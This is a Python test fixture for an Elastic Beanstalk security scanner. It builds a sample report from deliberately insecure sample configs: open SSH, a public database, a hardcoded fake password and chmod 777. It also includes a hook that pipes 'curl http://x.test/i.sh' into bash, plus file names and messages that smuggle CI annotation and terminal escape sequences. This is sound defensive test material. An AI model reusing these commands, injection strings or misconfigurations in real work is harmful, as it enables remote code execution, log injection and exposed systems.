"""One hand-made report that uses every feature of the output formats."""

from __future__ import annotations

from bundlecheck.finding import Confidence, Finding, Related, Severity
from bundlecheck.result import BundleSummary, Incomplete, Report
from bundlecheck.rule import Rule
from bundlecheck.sources import MaskedSources
from bundlecheck.span import Span
from bundlecheck.syntax.text import FileText

SECRET = "pV7mQ2xKd9rTfZ41"
"""A random fake; no output may show it."""

HOSTILE_PATH = "api/.platform/hooks/a::error::x\x1b[31m\n::warning::y.sh"

NETWORK = """\
option_settings:
  aws:autoscaling:launchconfiguration:
    EC2KeyName: ops
    SSHSourceRestriction: tcp,22,22,0.0.0.0/0

Resources:
  Db:
    Type: AWS::RDS::DBInstance
    Properties:
      Engine: postgres
      PubliclyAccessible: true
      StorageEncrypted: false
      MasterUsername: shop
      MasterUserPassword: pV7mQ2xKd9rTfZ41
      MultiAZ: false
  DbGroup:
    Type: AWS::EC2::SecurityGroup
"""

WIDE = """\
commands:
  01_漢字:
    command: "echo 数据库 été \U0001f600; chmod 777 /var/app"
"""

MINIFIED = (
    '{"Resources":{'
    + ",".join(f'"Queue{n}":{{"Type":"AWS::SQS::Queue"}}' for n in range(40))
    + ',"Role":{"Type":"AWS::IAM::Role","Action":"*"}'
    + "".join(f',"Topic{n}":{{"Type":"AWS::SNS::Topic"}}' for n in range(40))
    + "}}\n"
)

HOOK = "#!/bin/bash\nif true; then\n\tcurl http://x.test/i.sh\t| bash \x1b[2J # \u202edone\nfi\n"

FILES = {
    ".ebextensions/01-network.config": NETWORK,
    ".ebextensions/02-wide.config": WIDE,
    "iam.json": MINIFIED,
    ".env": f"DEBUG=0\nDB_PASSWORD={SECRET}\nTOKEN={SECRET}\n",
    HOSTILE_PATH: HOOK,
    "api/.ebextensions/a b%c.config": "option_settings:\r\n  a: b\r\n",
}

SECRETS = (
    Span(".ebextensions/01-network.config", 14, 27, 14, 43),
    Span(".env", 2, 13, 2, 29),
)


def rule(identity: str, name: str, **changes: object) -> Rule:
    """Return a rule with plain words where no others are given."""
    values: dict[str, object] = {
        "layer": "network",
        "severity": Severity.HIGH,
        "confidence": Confidence.HIGH,
        "posture": False,
        "security": True,
        "summary": f"reports what {name} says.",
        "reason": f"Anyone can use what {name} leaves open. A second sentence has the details.",
        "remedy": f"Close what {name} leaves open.",
        "safe": "",
        "cwe": (),
        "controls": (),
        "references": (),
    }
    return Rule(id=identity, name=name, **{**values, **changes})  # type: ignore[arg-type]


RULES = (
    rule(
        "EB101",
        "iam-wildcard-action",
        layer="identity",
        cwe=("CWE-269",),
        references=("IAM user guide, chapter 3", "https://docs.aws.amazon.com/IAM/"),
    ),
    rule(
        "EB201",
        "ssh-open-to-world",
        summary="reports port 22 open to every address.",
        reason=(
            "Elastic Beanstalk adds the range to the security group of every instance, e.g. by"
            " `SSHSourceRestriction`, so anyone can try keys and passwords. Scanners find such"
            " hosts within minutes."
        ),
        remedy="Name the range that administrators come from, or use Session Manager instead.",
        safe="option_settings:\n  aws:autoscaling:launchconfiguration:\n"
        "    SSHSourceRestriction: tcp,22,22,10.0.0.0/16\n",
        cwe=("CWE-284", "CWE-668"),
        controls=("Security Hub EC2.13",),
        references=("https://docs.aws.amazon.com/elasticbeanstalk/",),
    ),
    rule("EB208", "database-public", severity=Severity.CRITICAL, cwe=("CWE-79",)),
    rule("EB301", "no-https-listener", layer="transport", posture=True, severity=Severity.MEDIUM),
    rule("EB401", "secret-in-plain-text", layer="secrets", cwe=("CWE-798",)),
    rule("EB457", "world-writable", layer="runtime", severity=Severity.MEDIUM),
    rule("EB502", "no-log-streaming", layer="detection", posture=True, severity=Severity.LOW),
    rule(
        "EB611",
        "unknown-option",
        layer="deployment",
        severity=Severity.INFO,
        confidence=Confidence.MEDIUM,
        security=False,
    ),
)
_RULES = {item.id: item for item in RULES}


def finding(rule_id: str, span: Span, message: str, **changes: object) -> Finding:
    """Return a finding with its rule's defaults."""
    source = _RULES[rule_id]
    values: dict[str, object] = {
        "name": source.name,
        "severity": source.severity,
        "confidence": source.confidence,
        "posture": source.posture,
        "bundle": ".",
        "label": "",
        "related": (),
        "identity": (),
        "secrets": (),
        "safe": "",
    }
    return Finding(
        rule=rule_id,
        span=span,
        message=message,
        **{**values, **changes},  # type: ignore[arg-type]
    )


def _place(path: str, text: str, line: int) -> Span:
    """Return the span of the first occurrence of a text in a line of a sample file."""
    found = FileText(path, FILES[path]).line(line).index(text)
    return Span(path, line, found + 1, line, found + 1 + len(text))


_CONFIG = ".ebextensions/01-network.config"
_FINDINGS = (
    finding(
        "EB201",
        _place(_CONFIG, "tcp,22,22,0.0.0.0/0", 4),
        'SSH is open to "0.0.0.0/0"',
        label="every IPv4 address",
        related=(
            Related(_place(_CONFIG, "EC2KeyName: ops", 3), "this key pair [ops](1) opens the port"),
            Related(_place(_CONFIG, "aws:autoscaling:launchconfiguration", 2), "namespace"),
        ),
        identity=("aws:autoscaling:launchconfiguration", "SSHSourceRestriction"),
    ),
    finding(
        "EB208",
        Span(_CONFIG, 7, 3, 15, 21),
        'database "Db" has a public address',
        label="the whole resource",
        related=(
            Related(Span(_CONFIG, 16, 3, 17, 34), "its group"),
            Related(_place("iam.json", '"Action":"*"', 1), "a role that may read it"),
            Related(Span.whole(".env"), "the client's settings"),
        ),
        identity=("Db", "PubliclyAccessible"),
    ),
    finding(
        "EB401",
        SECRETS[0],
        'property "MasterUserPassword" holds a password',
        label="written here",
        secrets=SECRETS[:1],
        safe="MasterUserPassword: '{{resolve:secretsmanager:shop/db:SecretString:password}}'",
        related=(Related(_place(".env", "TOKEN", 3), "used again"),),
    ),
    finding("EB401", SECRETS[1], "variable holds a password", secrets=SECRETS[1:]),
    finding(
        "EB457",
        _place(".ebextensions/02-wide.config", "chmod 777", 3),
        '"/var/app" becomes writable for everyone \u001b[31m',
        label="mode 777 with a label that is far too long to stand beside the underline at its right",
        related=(
            Related(_place(".ebextensions/02-wide.config", "漢字", 2), "this command"),
            Related(_place(".ebextensions/02-wide.config", "数据库", 3), "wide"),
        ),
    ),
    finding(
        "EB101",
        _place("iam.json", '"*"', 1),
        'role "Role" allows every action',
        label="all of AWS",
        severity=Severity.CRITICAL,
        confidence=Confidence.LOW,
        related=tuple(Related(_place("iam.json", f'"Topic{n}"', 1), f"{n}") for n in range(25)),
    ),
    finding("EB301", Span.whole(_CONFIG), "no TLS listener is set"),
    finding("EB502", _place(_CONFIG, "option_settings", 1), "log streaming is not set"),
    finding(
        "EB457",
        Span(HOSTILE_PATH, 3, 2, 3, 31),
        "downloaded script\n::error::injected is run, 100% unchecked",
        label="fetched and run",
        bundle="api",
    ),
    finding(
        "EB611",
        Span("api/.ebextensions/a b%c.config", 2, 3, 2, 3),
        'option "a" is unknown',
        bundle="api",
    ),
    finding(
        "EB611", Span("api/logo.png", 0, 0, 0, 0), "file is no text", label="PNG", bundle="api"
    ),
    finding("EB301", Span.whole("api/Procfile"), "no TLS listener is set", bundle="api"),
)


def sources() -> MaskedSources:
    """Return the sample files with their secrets masked."""

    def read(path: str) -> FileText | None:
        return FileText(path, FILES[path]) if path in FILES else None

    return MaskedSources(read, SECRETS)


def sample_report(**changes: object) -> Report:
    """Return the report; keywords replace its fields."""
    values: dict[str, object] = {
        "target": "shop",
        "prefix": "services/shop:2/",
        "bundles": (
            BundleSummary(".", 5, "Python 3.11 running on 64bit Amazon Linux 2023"),
            BundleSummary("api", 1, ""),
            BundleSummary("worker", 0, ""),
        ),
        "findings": tuple(sorted(_FINDINGS, key=lambda item: item.sort_key)),
        "hidden": 3,
        "rules": RULES,
        "incomplete": (
            Incomplete("big.zip", "more than 10,000 entries", "Remove what is not deployed."),
            Incomplete("api/\x9b\u202e.config", "not text", "Save it as UTF-8."),
        ),
        "notes": ('".ebignore" decides what is packed', "modes are not kept here"),
        "sources": sources(),
        "fail_on": Severity.HIGH,
        "at_or_over": 6,
    }
    return Report(**{**values, **changes})  # type: ignore[arg-type]


def empty_report(**changes: object) -> Report:
    """Return the report of a clean bundle; keywords replace its fields."""
    clean: dict[str, object] = {
        "bundles": (BundleSummary(".", 12, ""),),
        "findings": (),
        "hidden": 0,
        "incomplete": (),
        "notes": (),
        "at_or_over": 0,
    }
    return sample_report(**{**clean, **changes})
